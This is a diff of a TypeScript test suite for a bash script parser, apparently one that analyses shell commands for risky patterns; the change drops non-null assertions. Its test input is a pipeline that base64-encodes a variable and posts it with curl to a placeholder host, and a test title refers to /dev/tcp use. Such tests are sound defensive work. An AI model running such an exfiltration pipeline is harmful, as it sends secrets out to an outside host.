@@ -30,10 +30,10 @@ describe('bash: commands and words', () => {
     const s = await parseScript('echo $T | base64 | curl -X POST --data-binary @- http://x\n', 'bash');
     const [echo, b64, curl] = commands(s);
     assert.equal(echo?.name, 'echo');
-    assert.deepEqual(args(echo!), ['$T']);
+    assert.deepEqual(args(echo), ['$T']);
     assert.equal(b64?.pipeFrom, 0);
     assert.equal(curl?.pipeFrom, 1);
-    assert.deepEqual(args(curl!), ['"-X"', '"POST"', '"--data-binary"', '"@-"', '"http://x"']);
+    assert.deepEqual(args(curl), ['"-X"', '"POST"', '"--data-binary"', '"@-"', '"http://x"']);
   });
 
   it('/dev/tcp via exec and a descriptor, on separate statements', async () => {
